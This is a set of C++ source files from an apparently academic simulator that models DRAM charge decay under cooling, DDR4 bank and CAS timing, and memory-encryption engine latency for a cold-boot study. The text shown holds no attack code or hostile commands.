     * removed module; decay is applied by elapse(), not by reads).
     */
    void read(uint64_t addr, std::span<uint8_t> out) const;

    /** Write bytes at module-linear address @p addr. */
    void write(uint64_t addr, std::span<const uint8_t> data);

    /** Whole-module contents (e.g. for dumping). */
    std::span<const uint8_t> raw() const
    {
        return {cells.data(), cells.size()};
    }

    /** Mutable whole-module contents (test fixtures only). */
    std::span<uint8_t> rawMutable()
    {
        return {cells.data(), cells.size()};
    }

    /** Cut power (refresh stops; decay clock starts). */
    void powerOff();

    /** Restore power (refresh resumes; contents stay as they are). */
    void powerOn();

    /** Set the module temperature (e.g. -25 for gas-duster cooling). */
    void coolTo(double celsius) { temp_celsius = celsius; }

    /**
     * Let wall-clock time pass. While unpowered, charge decay is
     * applied at the current temperature; non-volatile modules never
     * decay.
     *
     * @return Number of bits that visibly flipped.
     */
    uint64_t elapse(double seconds);

    /** Fully decay the module to its ground state. */
    void decayToGround();

    /**
     * Fraction of bits currently matching a reference image, for
     * retention measurements.
     */
    double retentionVersus(std::span<const uint8_t> reference) const;

    /** The decay model (for analysis and tests). */
    const DecayModel &decayModel() const { return decay; }

  private:
    Generation gen;
    Media media_kind;
    std::string name;
    std::vector<uint8_t> cells;
    DecayModel decay;
    bool powered;
    double temp_celsius;
};

/**
 * A catalog entry describing one of the physical modules whose
 * retention the paper measures (five DDR3, two DDR4).
 */
struct CatalogEntry
{
    std::string model_name;
    Generation generation;
    uint64_t bytes;
    /** Retention quality multiplier (1.0 nominal; <1 leaks faster). */
    double quality;
};

/**
 * The seven-module test fleet from Section III-D (synthetic stand-ins
 * with one deliberately leaky DDR3 part, as the paper observed).
 */
const std::vector<CatalogEntry> &moduleCatalog();

/** Instantiate a catalog entry as a live module. */
std::unique_ptr<DramModule> makeCatalogModule(const CatalogEntry &entry,
                                              uint64_t seed);

} // namespace coldboot::dram

#endif // COLDBOOT_DRAM_DRAM_MODULE_HH
