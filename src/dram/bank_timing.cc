#include "dram/bank_timing.hh"

#include <algorithm>

#include "common/logging.hh"

namespace coldboot::dram
{

BankTimingParams
BankTimingParams::forGrade(const SpeedGrade &grade)
{
    BankTimingParams p;
    p.bus_mhz = grade.bus_mhz;
    p.t_cl = grade.cas_cycles;
    // Representative matching core timings (tRCD/tRP track tCL on
    // standard bins).
    p.t_rcd = grade.cas_cycles + 1;
    p.t_rp = grade.cas_cycles + 1;
    return p;
}

BankTimingSimulator::BankTimingSimulator(const BankTimingParams &params)
    : parms(params)
{
    if (parms.banks == 0)
        cb_fatal("BankTimingSimulator: zero banks");
}

std::vector<ReadTiming>
BankTimingSimulator::simulateStream(
    std::span<const ReadRequest> requests)
{
    struct BankState
    {
        bool open = false;
        uint64_t row = 0;
        int64_t ready_cycle = 0;    // bank free for next command
        int64_t activated_at = 0;   // for tRAS
    };
    std::vector<BankState> banks(parms.banks);

    // Command bus: one command per cycle, with gap filling (a later
    // request's ACT may slip into an idle cycle while an older
    // request waits on a bank timer - FR-FCFS-style command issue).
    std::vector<char> cmd_busy;
    auto issue_cmd = [&cmd_busy](int64_t earliest) {
        int64_t cycle = std::max<int64_t>(earliest, 0);
        for (;; ++cycle) {
            if (cycle >= static_cast<int64_t>(cmd_busy.size()))
                cmd_busy.resize(static_cast<size_t>(cycle) + 64, 0);
            if (!cmd_busy[static_cast<size_t>(cycle)]) {
                cmd_busy[static_cast<size_t>(cycle)] = 1;
                return cycle;
            }
        }
    };
    int64_t last_cas = -parms.t_ccd; // CAS-to-CAS spacing
    int64_t data_bus_free = 0; // data bus busy tBL per burst

    std::vector<ReadTiming> out;
    out.reserve(requests.size());

    for (const auto &req : requests) {
        cb_assert(req.bank < parms.banks,
                  "simulateStream: bank %u out of range", req.bank);
        BankState &bank = banks[req.bank];
        ReadTiming rt;
        rt.id = req.id;
        rt.row_hit = bank.open && bank.row == req.row;

        if (!rt.row_hit) {
            if (bank.open) {
                // PRE: respect tRAS since activation.
                int64_t pre_cycle = issue_cmd(std::max(
                    {req.arrival, bank.ready_cycle,
                     bank.activated_at + parms.t_ras}));
                bank.ready_cycle = pre_cycle + parms.t_rp;
            }
            // ACT.
            int64_t act_cycle = issue_cmd(
                std::max(req.arrival, bank.ready_cycle));
            bank.activated_at = act_cycle;
            bank.ready_cycle = act_cycle + parms.t_rcd;
            bank.open = true;
            bank.row = req.row;
        }

        // CAS: bank ready, command bus free, tCCD since last CAS,
        // and the data bus must be free when the burst lands.
        int64_t cas_cycle = issue_cmd(std::max(
            {req.arrival, bank.ready_cycle, last_cas + parms.t_ccd,
             data_bus_free - parms.t_cl}));
        last_cas = cas_cycle;
        rt.cas_cycle = cas_cycle;
        rt.data_cycle = cas_cycle + parms.t_cl;
        data_bus_free = rt.data_cycle + parms.t_bl;
        bank.ready_cycle = std::max(bank.ready_cycle, cas_cycle + 1);

        out.push_back(rt);
    }
    return out;
}

std::vector<ReadTiming>
BankTimingSimulator::simulateRowHitBurst(unsigned count)
{
    // Prime every bank's row, then read the same rows again; only
    // the second pass (all hits) is returned.
    std::vector<ReadRequest> prime;
    for (unsigned i = 0; i < parms.banks; ++i)
        prime.push_back({i, i, 0});
    std::vector<ReadRequest> burst;
    for (unsigned i = 0; i < count; ++i)
        burst.push_back({i, i % parms.banks, 0});

    // Run both passes through one simulator call so bank state
    // carries over, then drop the priming entries.
    std::vector<ReadRequest> all(prime);
    all.insert(all.end(), burst.begin(), burst.end());
    auto timings = simulateStream(all);
    std::vector<ReadTiming> out(timings.begin() + prime.size(),
                                timings.end());
    // Rebase cycles so the burst starts near zero.
    int64_t base = out.empty() ? 0 : out.front().cas_cycle;
    for (auto &t : out) {
        t.cas_cycle -= base;
        t.data_cycle -= base;
    }
    return out;
}

Picoseconds
engineExposureOverStream(std::span<const ReadTiming> timings,
                         const BankTimingParams &params,
                         Picoseconds engine_period_ps,
                         int engine_depth_cycles,
                         int counters_per_line)
{
    // Engine ingest port: one counter per engine clock, requests
    // enqueue at their CAS issue time.
    Picoseconds port_free = 0;
    Picoseconds worst = 0;
    for (const auto &rt : timings) {
        Picoseconds issue = rt.casPs(params);
        Picoseconds last_entry = 0;
        for (int c = 0; c < counters_per_line; ++c) {
            Picoseconds entry = std::max(issue, port_free);
            port_free = entry + engine_period_ps;
            last_entry = entry;
        }
        Picoseconds keystream_done =
            last_entry + engine_depth_cycles * engine_period_ps;
        Picoseconds data = rt.dataPs(params);
        worst =
            std::max(worst, std::max<Picoseconds>(
                                0, keystream_done - data));
    }
    return worst;
}

} // namespace coldboot::dram
