#include "dram/dram_module.hh"

#include <algorithm>

#include "common/bits.hh"
#include "common/logging.hh"
#include "common/units.hh"

namespace coldboot::dram
{

DramModule::DramModule(Generation generation, uint64_t bytes,
                       const DecayParams &params, uint64_t seed,
                       std::string model_name, Media media)
    : gen(generation), media_kind(media), name(std::move(model_name)),
      cells(bytes, 0), decay(params, seed), powered(true),
      temp_celsius(20.0)
{
    if (bytes == 0 || bytes % 64 != 0)
        cb_fatal("DramModule: capacity %llu is not a nonzero multiple "
                 "of 64", static_cast<unsigned long long>(bytes));
}

void
DramModule::read(uint64_t addr, std::span<uint8_t> out) const
{
    cb_assert(addr + out.size() <= cells.size(),
              "DramModule::read out of range: addr=%llu len=%zu",
              static_cast<unsigned long long>(addr), out.size());
    std::copy_n(cells.begin() + static_cast<ptrdiff_t>(addr),
                out.size(), out.begin());
}

void
DramModule::write(uint64_t addr, std::span<const uint8_t> data)
{
    cb_assert(addr + data.size() <= cells.size(),
              "DramModule::write out of range: addr=%llu len=%zu",
              static_cast<unsigned long long>(addr), data.size());
    if (!powered)
        cb_warn("write to unpowered module '%s' ignored", name.c_str());
    else
        std::copy(data.begin(), data.end(),
                  cells.begin() + static_cast<ptrdiff_t>(addr));
}

void
DramModule::powerOff()
{
    powered = false;
}

void
DramModule::powerOn()
{
    powered = true;
}

uint64_t
DramModule::elapse(double seconds)
{
    if (powered || media_kind == Media::NonVolatileDimm)
        return 0; // refresh (or non-volatility) holds the contents
    return decay.applyDecay({cells.data(), cells.size()}, seconds,
                            temp_celsius);
}

void
DramModule::decayToGround()
{
    decay.decayToGround({cells.data(), cells.size()});
}

double
DramModule::retentionVersus(std::span<const uint8_t> reference) const
{
    cb_assert(reference.size() == cells.size(),
              "retentionVersus: reference size mismatch");
    size_t flipped =
        hammingDistance({cells.data(), cells.size()}, reference);
    double total_bits = static_cast<double>(cells.size()) * 8.0;
    return 1.0 - static_cast<double>(flipped) / total_bits;
}

const std::vector<CatalogEntry> &
moduleCatalog()
{
    // Five DDR3 + two DDR4 parts; one DDR3 module is deliberately
    // leaky, matching the paper's observation that one of its DDR3
    // modules lost data faster than the newer DDR4 modules.
    static const std::vector<CatalogEntry> catalog = {
        {"DDR3-A (nominal)",   Generation::DDR3, MiB(8), 1.00},
        {"DDR3-B (nominal)",   Generation::DDR3, MiB(8), 1.10},
        {"DDR3-C (leaky)",     Generation::DDR3, MiB(8), 0.35},
        {"DDR3-D (nominal)",   Generation::DDR3, MiB(8), 0.95},
        {"DDR3-E (nominal)",   Generation::DDR3, MiB(8), 1.05},
        {"DDR4-A (nominal)",   Generation::DDR4, MiB(8), 1.20},
        {"DDR4-B (nominal)",   Generation::DDR4, MiB(8), 1.15},
    };
    return catalog;
}

std::unique_ptr<DramModule>
makeCatalogModule(const CatalogEntry &entry, uint64_t seed)
{
    DecayParams params;
    params.quality = entry.quality;
    return std::make_unique<DramModule>(entry.generation, entry.bytes,
                                        params, seed,
                                        entry.model_name);
}

} // namespace coldboot::dram
