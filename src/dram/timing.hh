/**
 * @file
 * DDR timing parameters used by the engine-overlap analysis.
 *
 * The paper's zero-exposed-latency argument rests on one number: the
 * column access (CAS) window. JESD79-4 permits exactly nine CAS
 * latency settings for DDR4, all falling between 12.5 ns and 15.01 ns;
 * a keystream generator that finishes inside that window hides
 * entirely behind the DRAM access.
 */

#ifndef COLDBOOT_DRAM_TIMING_HH
#define COLDBOOT_DRAM_TIMING_HH

#include <array>
#include <cstdint>
#include <string>

#include "common/units.hh"

namespace coldboot::dram
{

/** DRAM interface generations modeled by the library. */
enum class Generation { DDR3, DDR4 };

/** Printable name of a generation. */
const char *generationName(Generation gen);

/**
 * Timing description of one DDR speed grade.
 */
struct SpeedGrade
{
    /** Marketing name, e.g. "DDR4-2400". */
    std::string name;
    /** I/O bus clock in MHz (data rate is 2x). */
    double bus_mhz;
    /** CAS latency in clock cycles. */
    int cas_cycles;

    /** CAS latency in picoseconds. */
    Picoseconds casLatencyPs() const
    {
        return static_cast<Picoseconds>(
            cas_cycles * (1.0e6 / bus_mhz) + 0.5);
    }

    /**
     * Cycles (bus clocks) needed to burst one 64-byte line over an
     * 8-byte-wide DDR bus: burst length 8 -> 4 bus clocks.
     */
    static constexpr int burstCycles() { return 4; }

    /** Time to transfer one 64-byte line on the bus. */
    Picoseconds burstTimePs() const
    {
        return static_cast<Picoseconds>(
            burstCycles() * (1.0e6 / bus_mhz) + 0.5);
    }
};

/**
 * The nine JESD79-4 standard DDR4 CAS-latency operating points the
 * paper cites (all between 12.5 ns and 15.01 ns).
 */
const std::array<SpeedGrade, 9> &ddr4StandardGrades();

/** The DDR4-2400 grade used throughout the Figure 6 analysis. */
const SpeedGrade &ddr4_2400();

/** Minimum standard DDR4 CAS latency (12.5 ns) in picoseconds. */
Picoseconds ddr4MinCasPs();

/** Maximum standard DDR4 CAS latency (~15.01 ns) in picoseconds. */
Picoseconds ddr4MaxCasPs();

} // namespace coldboot::dram

#endif // COLDBOOT_DRAM_TIMING_HH
