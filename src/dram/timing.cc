#include "dram/timing.hh"

#include <algorithm>

namespace coldboot::dram
{

const char *
generationName(Generation gen)
{
    switch (gen) {
      case Generation::DDR3: return "DDR3";
      case Generation::DDR4: return "DDR4";
    }
    return "?";
}

const std::array<SpeedGrade, 9> &
ddr4StandardGrades()
{
    // JESD79-4 first-gen standard bins; CAS latencies span
    // 12.5 ns (1600 CL10 / 2400 CL15) .. 15.01 ns (1866 CL14).
    static const std::array<SpeedGrade, 9> grades = {{
        {"DDR4-1600 CL10", 800.0, 10},  // 12.50 ns
        {"DDR4-1600 CL11", 800.0, 11},  // 13.75 ns
        {"DDR4-1600 CL12", 800.0, 12},  // 15.00 ns
        {"DDR4-1866 CL12", 933.0, 12},  // 12.86 ns
        {"DDR4-1866 CL13", 933.0, 13},  // 13.93 ns
        {"DDR4-1866 CL14", 933.0, 14},  // 15.01 ns
        {"DDR4-2133 CL14", 1066.0, 14}, // 13.13 ns
        {"DDR4-2133 CL15", 1066.0, 15}, // 14.07 ns
        {"DDR4-2133 CL16", 1066.0, 16}, // 15.01 ns
    }};
    return grades;
}

const SpeedGrade &
ddr4_2400()
{
    static const SpeedGrade grade{"DDR4-2400 CL15", 1200.0, 15};
    return grade;
}

Picoseconds
ddr4MinCasPs()
{
    Picoseconds min = ddr4StandardGrades()[0].casLatencyPs();
    for (const auto &g : ddr4StandardGrades())
        min = std::min(min, g.casLatencyPs());
    return min;
}

Picoseconds
ddr4MaxCasPs()
{
    Picoseconds max = 0;
    for (const auto &g : ddr4StandardGrades())
        max = std::max(max, g.casLatencyPs());
    return max;
}

} // namespace coldboot::dram
