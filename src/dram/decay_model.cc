#include "dram/decay_model.hh"

#include <algorithm>
#include <cmath>

#include "common/logging.hh"
#include "obs/stats.hh"
#include "simd/simd.hh"

namespace coldboot::dram
{

namespace
{

/** Stateless 64-bit mix (SplitMix64 finalizer). */
uint64_t
mix64(uint64_t z)
{
    z += 0x9e3779b97f4a7c15ULL;
    z = (z ^ (z >> 30)) * 0xbf58476d1ce4e5b9ULL;
    z = (z ^ (z >> 27)) * 0x94d049bb133111ebULL;
    return z ^ (z >> 31);
}

/** Bits per true/anti cell polarity stripe (1 KiB rows). */
constexpr uint64_t stripeBits = 8192;

/**
 * Per-byte salt hash: lane b (8 bits) decides whether bit b of the
 * byte has inverted polarity relative to its stripe.
 */
constexpr unsigned saltThreshold = 5; // ~2% of cells

/**
 * Ground-state value of byte @p i: the stripe polarity with the salt
 * lanes inverted. Bits of one byte never straddle a stripe boundary
 * (stripes are 1 KiB), so this matches groundStateBit() lane by lane.
 */
uint8_t
groundByte(uint64_t ground_seed, uint64_t i)
{
    uint64_t stripe = (i * 8) / stripeBits;
    uint8_t base = (stripe & 1) ? 0xff : 0x00;
    uint64_t h = mix64(ground_seed ^ i);
    uint8_t salt = 0;
    for (unsigned lane = 0; lane < 8; ++lane) {
        if (((h >> (8 * lane)) & 0xff) < saltThreshold)
            salt |= static_cast<uint8_t>(1u << lane);
    }
    return base ^ salt;
}

} // anonymous namespace

DecayModel::DecayModel(const DecayParams &params, uint64_t seed)
    : parms(params), ground_seed(mix64(seed ^ 0xc01db007c01db007ULL)),
      rng(seed)
{
    if (parms.tau_ref_seconds <= 0 || parms.doubling_celsius <= 0 ||
        parms.quality <= 0) {
        cb_fatal("DecayModel: non-positive retention parameter");
    }
}

double
DecayModel::tau(double celsius) const
{
    double doublings =
        (parms.t_ref_celsius - celsius) / parms.doubling_celsius;
    return parms.tau_ref_seconds * parms.quality *
           std::exp2(doublings);
}

double
DecayModel::decayedFraction(double seconds, double celsius) const
{
    if (seconds <= 0)
        return 0.0;
    return 1.0 - std::exp(-seconds / tau(celsius));
}

bool
DecayModel::groundStateBit(uint64_t bit_index) const
{
    uint64_t stripe = bit_index / stripeBits;
    bool polarity = (stripe & 1) != 0;
    uint64_t byte_index = bit_index / 8;
    unsigned lane = static_cast<unsigned>(bit_index % 8);
    uint64_t h = mix64(ground_seed ^ byte_index);
    bool salt = ((h >> (8 * lane)) & 0xff) < saltThreshold;
    return polarity ^ salt;
}

namespace
{

/** Mirror one decay episode into the stats registry. */
void
recordDecay(uint64_t flips)
{
    auto &registry = obs::StatRegistry::global();
    registry.counter("dram.decay.applications",
                     "decay episodes applied to a module").add();
    registry.counter("dram.decay.bits_flipped",
                     "bits visibly flipped by charge decay")
        .add(flips);
}

} // anonymous namespace

uint64_t
DecayModel::applyDecay(std::span<uint8_t> data, double seconds,
                       double celsius)
{
    double p = decayedFraction(seconds, celsius);
    if (p <= 0.0)
        return 0;

    uint64_t total_bits = static_cast<uint64_t>(data.size()) * 8;
    uint64_t flips = 0;

    if (p >= 0.999999) {
        // Effectively full decay: generate the ground pattern a
        // cache-friendly chunk at a time and let the fused kernel
        // count the visible flips while overwriting (identical to
        // the old per-bit compare followed by decayToGround).
        constexpr size_t kChunk = 4096;
        uint8_t ground[kChunk];
        for (size_t off = 0; off < data.size(); off += kChunk) {
            size_t len = std::min(kChunk, data.size() - off);
            for (size_t j = 0; j < len; ++j)
                ground[j] = groundByte(ground_seed, off + j);
            flips += simd::decayApplyGround(&data[off], ground, len);
        }
        recordDecay(flips);
        return flips;
    }

    // Geometric skipping: visit only the cells that decay.
    double log1mp = std::log1p(-p);
    uint64_t bit = 0;
    for (;;) {
        double u = rng.nextDouble();
        double skip = std::floor(std::log1p(-u) / log1mp);
        // Guard against numeric overflow for tiny p.
        if (skip > static_cast<double>(total_bits))
            break;
        bit += static_cast<uint64_t>(skip);
        if (bit >= total_bits)
            break;
        bool gnd = groundStateBit(bit);
        uint8_t mask = static_cast<uint8_t>(1u << (bit % 8));
        bool cur = (data[bit / 8] & mask) != 0;
        if (cur != gnd) {
            data[bit / 8] =
                gnd ? (data[bit / 8] | mask)
                    : (data[bit / 8] & static_cast<uint8_t>(~mask));
            ++flips;
        }
        ++bit;
    }
    recordDecay(flips);
    return flips;
}

void
DecayModel::decayToGround(std::span<uint8_t> data) const
{
    for (size_t i = 0; i < data.size(); ++i)
        data[i] = groundByte(ground_seed, i);
}

} // namespace coldboot::dram
