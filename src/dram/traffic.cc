#include "dram/traffic.hh"

#include <algorithm>

#include "common/logging.hh"
#include "common/rng.hh"

namespace coldboot::dram
{

const char *
trafficPatternName(TrafficPattern pattern)
{
    switch (pattern) {
      case TrafficPattern::Streaming: return "streaming";
      case TrafficPattern::Random: return "random";
      case TrafficPattern::PointerChase: return "pointer-chase";
    }
    return "?";
}

std::vector<ReadRequest>
generateTraffic(const TrafficParams &params)
{
    cb_assert(params.banks > 0 && params.rows > 0,
              "generateTraffic: empty geometry");
    Xoshiro256StarStar rng(params.seed);
    std::vector<ReadRequest> out;
    out.reserve(params.requests);

    int think = params.think_cycles;
    if (think == 0) {
        switch (params.pattern) {
          case TrafficPattern::Streaming:
            // A media/scan loop touches a new line every few CPU
            // cycles of processing.
            think = 18;
            break;
          case TrafficPattern::Random:
            think = 45;
            break;
          case TrafficPattern::PointerChase:
            think = 25; // plus the dependency stall below
            break;
        }
    }

    int64_t now = 0;
    unsigned bank = 0;
    uint64_t row = 0;
    unsigned run = 0;
    for (unsigned i = 0; i < params.requests; ++i) {
        switch (params.pattern) {
          case TrafficPattern::Streaming:
            // 64 consecutive lines per row (one 8 KiB row of 64 B
            // lines at 128 lines; use 64-line runs), then move on.
            if (run == 0) {
                bank = (bank + 1) % params.banks;
                row = (row + 1) % params.rows;
                run = 64;
            }
            --run;
            break;
          case TrafficPattern::Random:
          case TrafficPattern::PointerChase:
            bank = static_cast<unsigned>(
                rng.nextBelow(params.banks));
            row = rng.nextBelow(params.rows);
            break;
        }
        out.push_back({i, bank, row, now});
        now += think;
        if (params.pattern == TrafficPattern::PointerChase) {
            // The next address depends on the loaded value: the
            // request cannot even form until this one's data is
            // back. Approximate the dependency with the worst-case
            // closed-row latency.
            now += 47; // ~tRP + tRCD + tCL at DDR4-2400
        }
    }
    return out;
}

BandwidthReport
measureBandwidth(const BankTimingParams &params,
                 std::span<const ReadRequest> stream)
{
    BandwidthReport report;
    if (stream.empty())
        return report;

    BankTimingSimulator sim(params);
    auto timings = sim.simulateStream(stream);

    int64_t span_cycles =
        timings.back().data_cycle + params.t_bl -
        stream.front().arrival;
    double span_seconds = static_cast<double>(span_cycles) *
                          static_cast<double>(params.clockPs()) *
                          1e-12;
    double bytes = 64.0 * static_cast<double>(stream.size());
    report.achieved_gbs = bytes / span_seconds / 1e9;

    // Peak: one 64-byte burst per tBL bus cycles.
    double peak_bytes_per_s =
        64.0 / (static_cast<double>(params.t_bl) *
                static_cast<double>(params.clockPs()) * 1e-12);
    report.peak_gbs = peak_bytes_per_s / 1e9;
    report.utilization = report.achieved_gbs / report.peak_gbs;

    size_t hits = 0;
    for (const auto &t : timings)
        hits += t.row_hit;
    report.row_hit_rate =
        static_cast<double>(hits) / static_cast<double>(
                                        timings.size());
    return report;
}

} // namespace coldboot::dram
