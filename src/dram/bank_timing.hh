/**
 * @file
 * Bank-level DDR4 read-timing simulator.
 *
 * The paper's zero-exposed-latency argument rests on DRAM protocol
 * timing: after a row is open, a column read (CAS) returns data in a
 * fixed tCL window, and back-to-back row-buffer hits across banks
 * keep the data bus saturated at one 64-byte burst per tCCD. This
 * simulator models that machinery explicitly - per-bank open-row
 * state, ACT/PRE/CAS command timing, command- and data-bus
 * contention - so the burst patterns fed to the cipher-engine models
 * come from protocol behaviour rather than assumption.
 *
 * The model is deliberately scoped to what the paper's analysis
 * needs: a single rank of independent banks, in-order FCFS
 * scheduling, reads only (writes are latency-insensitive for the
 * overlap argument), and the core timing constraints tRCD / tRP /
 * tCL / tCCD / tRAS / tBL.
 */

#ifndef COLDBOOT_DRAM_BANK_TIMING_HH
#define COLDBOOT_DRAM_BANK_TIMING_HH

#include <cstdint>
#include <span>
#include <vector>

#include "common/units.hh"
#include "dram/timing.hh"

namespace coldboot::dram
{

/** Core DDR4 timing constraints, in bus clock cycles. */
struct BankTimingParams
{
    /** I/O bus clock in MHz (DDR4-2400 -> 1200). */
    double bus_mhz = 1200.0;
    /** Banks in the rank. */
    unsigned banks = 16;
    /** ACT to CAS delay. */
    int t_rcd = 16;
    /** Precharge time. */
    int t_rp = 16;
    /** CAS (column) latency. */
    int t_cl = 15;
    /** Minimum CAS-to-CAS spacing. */
    int t_ccd = 4;
    /** Data burst length on the bus (BL8 on x64 -> 4 clocks). */
    int t_bl = 4;
    /** Minimum ACT to PRE. */
    int t_ras = 39;

    /** Bus clock period in picoseconds. */
    Picoseconds clockPs() const
    {
        return static_cast<Picoseconds>(1.0e6 / bus_mhz + 0.5);
    }

    /** Parameters for a standard speed grade (tCL from the grade). */
    static BankTimingParams forGrade(const SpeedGrade &grade);
};

/** One read request presented to the controller. */
struct ReadRequest
{
    uint64_t id;
    unsigned bank;
    uint64_t row;
    /** Cycle the request becomes visible to the controller. */
    int64_t arrival = 0;
};

/** Timing outcome of one read. */
struct ReadTiming
{
    uint64_t id = 0;
    /** Whether the read hit an open row. */
    bool row_hit = false;
    /** Cycle the CAS command issued. */
    int64_t cas_cycle = 0;
    /** Cycle the first data beat appears on the bus. */
    int64_t data_cycle = 0;
    /** CAS issue time in picoseconds. */
    Picoseconds casPs(const BankTimingParams &p) const
    {
        return cas_cycle * p.clockPs();
    }
    /** Data availability time in picoseconds. */
    Picoseconds dataPs(const BankTimingParams &p) const
    {
        return data_cycle * p.clockPs();
    }
};

/**
 * Single-rank FCFS read simulator.
 */
class BankTimingSimulator
{
  public:
    explicit BankTimingSimulator(const BankTimingParams &params);

    /**
     * Simulate an in-order stream of reads, all queued at cycle 0
     * (the controller issues each as early as the protocol allows).
     *
     * @return Per-request timing, in request order.
     */
    std::vector<ReadTiming>
    simulateStream(std::span<const ReadRequest> requests);

    /** The parameter set in use. */
    const BankTimingParams &params() const { return parms; }

    /**
     * Convenience: an all-row-hit stream striped across banks - the
     * highest-bandwidth pattern, which the paper's "18 back-to-back
     * CAS" limit describes.
     */
    std::vector<ReadTiming> simulateRowHitBurst(unsigned count);

  private:
    BankTimingParams parms;
};

/**
 * Overlap analysis: feed a simulated read stream to a cipher engine
 * model (keystream generation starts at each read's CAS issue) and
 * report the worst exposed latency - keystream completion past data
 * availability.
 *
 * @param timings     Simulated reads (from BankTimingSimulator).
 * @param params      The timing parameters used to produce them.
 * @param engine_period_ps   Engine clock period.
 * @param engine_depth_cycles Pipeline depth in engine cycles.
 * @param counters_per_line  Counter blocks per 64-byte line.
 * @return Worst exposed latency in picoseconds (0 = fully hidden).
 */
Picoseconds engineExposureOverStream(
    std::span<const ReadTiming> timings,
    const BankTimingParams &params, Picoseconds engine_period_ps,
    int engine_depth_cycles, int counters_per_line);

} // namespace coldboot::dram

#endif // COLDBOOT_DRAM_BANK_TIMING_HH
