/**
 * @file
 * Charge-decay model for unpowered DRAM.
 *
 * Substitution for physical cold-boot hardware (see DESIGN.md): the
 * paper freezes real DIMMs with compressed gas and measures 90-99 %
 * retention after ~5 s at about -25 C, versus losing a significant
 * fraction of bits within ~3 s at room temperature. This model
 * reproduces those observable characteristics:
 *
 *  - Each bit cell has a *ground state* (the value it decays toward).
 *    Real DRAMs interleave "true" and "anti" cells, typically in row
 *    stripes, so roughly half of memory decays to 0 and half to 1.
 *  - Retention time scales strongly (exponentially) with temperature:
 *    cooling by `doubling_celsius` degrees doubles the characteristic
 *    retention time.
 *  - Per-module quality scales retention; the paper observed one DDR3
 *    module that leaked faster than the newer DDR4 parts.
 *
 * The decayed-fraction curve is f(t) = 1 - exp(-t / tau(T)), with
 * tau(T) = tau_ref * quality * 2^((T_ref - T) / doubling_celsius).
 */

#ifndef COLDBOOT_DRAM_DECAY_MODEL_HH
#define COLDBOOT_DRAM_DECAY_MODEL_HH

#include <cstdint>
#include <span>

#include "common/rng.hh"

namespace coldboot::dram
{

/**
 * Parameters of the retention model.
 */
struct DecayParams
{
    /** Characteristic retention time at the reference temperature. */
    double tau_ref_seconds = 4.0;
    /** Reference temperature in Celsius. */
    double t_ref_celsius = 20.0;
    /** Cooling by this many degrees doubles retention time. */
    double doubling_celsius = 9.0;
    /** Module quality multiplier on tau (1.0 = nominal). */
    double quality = 1.0;
};

/**
 * Stochastic but seed-deterministic cell decay.
 */
class DecayModel
{
  public:
    /**
     * @param params Retention curve parameters.
     * @param seed   Seed for the per-cell decay draw and the ground
     *               state pattern (a physical property of the module,
     *               stable across experiments on the same module).
     */
    DecayModel(const DecayParams &params, uint64_t seed);

    /**
     * Fraction of cells expected to have decayed after @p seconds
     * without refresh at @p celsius.
     */
    double decayedFraction(double seconds, double celsius) const;

    /** Characteristic retention time tau at @p celsius, in seconds. */
    double tau(double celsius) const;

    /**
     * Ground-state value of a bit cell.
     *
     * Cells are grouped in 1 KiB row stripes of alternating
     * true/anti polarity with a small amount of per-cell salt, which
     * matches the blocky half-0 / half-1 patterns real decayed DIMMs
     * exhibit.
     *
     * @param bit_index Absolute bit index within the module.
     */
    bool groundStateBit(uint64_t bit_index) const;

    /**
     * Apply decay in place to a memory array.
     *
     * Every cell independently decays with probability
     * decayedFraction(seconds, celsius); a decayed cell assumes its
     * ground-state value (so only cells currently storing the
     * opposite value visibly flip).
     *
     * @param data     Module contents, modified in place.
     * @param seconds  Unpowered interval.
     * @param celsius  Module temperature during the interval.
     * @return Number of bits that visibly flipped.
     */
    uint64_t applyDecay(std::span<uint8_t> data, double seconds,
                        double celsius);

    /** Set every cell to its ground state (full decay). */
    void decayToGround(std::span<uint8_t> data) const;

    /** The parameter set in use. */
    const DecayParams &params() const { return parms; }

  private:
    DecayParams parms;
    uint64_t ground_seed;
    Xoshiro256StarStar rng;
};

} // namespace coldboot::dram

#endif // COLDBOOT_DRAM_DECAY_MODEL_HH
