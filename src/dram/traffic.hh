/**
 * @file
 * Synthetic DRAM read-traffic generators and bandwidth measurement.
 *
 * The paper's Figure 7 evaluates engine power at 100% and at a
 * "realistic" 20% bandwidth utilization, citing the CloudSuite
 * characterization that even scale-out workloads rarely exceed ~15%
 * of DRAM bandwidth. These generators produce request streams with
 * workload-shaped locality and inter-request think time, and
 * measureBandwidth() runs them through the bank-level simulator to
 * report the achieved utilization - grounding the 20% operating
 * point in protocol behaviour rather than assumption.
 */

#ifndef COLDBOOT_DRAM_TRAFFIC_HH
#define COLDBOOT_DRAM_TRAFFIC_HH

#include <cstdint>
#include <span>
#include <string>
#include <vector>

#include "dram/bank_timing.hh"

namespace coldboot::dram
{

/** Workload-shaped traffic patterns. */
enum class TrafficPattern
{
    /** Sequential scan: long same-row runs, minimal think time. */
    Streaming,
    /** Cache-miss-like random rows/banks, moderate think time. */
    Random,
    /** Dependent loads: each miss waits on the previous one. */
    PointerChase,
};

/** Printable pattern name. */
const char *trafficPatternName(TrafficPattern pattern);

/** Traffic generator tuning. */
struct TrafficParams
{
    TrafficPattern pattern = TrafficPattern::Streaming;
    /** Number of read requests to generate. */
    unsigned requests = 2048;
    /** Banks available (should match the simulator). */
    unsigned banks = 16;
    /** Rows per bank to draw from. */
    uint64_t rows = 1024;
    /**
     * CPU think cycles between consecutive *independent* requests
     * (pattern-specific defaults are applied when 0).
     */
    int think_cycles = 0;
    /** Determinism seed. */
    uint64_t seed = 1;
};

/** Generate a request stream with arrival times. */
std::vector<ReadRequest> generateTraffic(const TrafficParams &params);

/** Bandwidth measurement result. */
struct BandwidthReport
{
    /** Achieved data bandwidth in GB/s. */
    double achieved_gbs = 0.0;
    /** Peak data-bus bandwidth in GB/s for the parameter set. */
    double peak_gbs = 0.0;
    /** achieved / peak. */
    double utilization = 0.0;
    /** Fraction of reads hitting an open row. */
    double row_hit_rate = 0.0;
};

/**
 * Run a request stream through the bank simulator and report the
 * achieved bandwidth and utilization.
 */
BandwidthReport measureBandwidth(const BankTimingParams &params,
                                 std::span<const ReadRequest> stream);

} // namespace coldboot::dram

#endif // COLDBOOT_DRAM_TRAFFIC_HH
