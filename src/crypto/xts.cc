#include "crypto/xts.hh"

#include <cstring>

#include "common/bits.hh"
#include "common/logging.hh"

namespace coldboot::crypto
{

namespace
{

/**
 * Multiply a 128-bit tweak by alpha (x) in GF(2^128), little-endian
 * byte order, reduction polynomial x^128 + x^7 + x^2 + x + 1.
 */
void
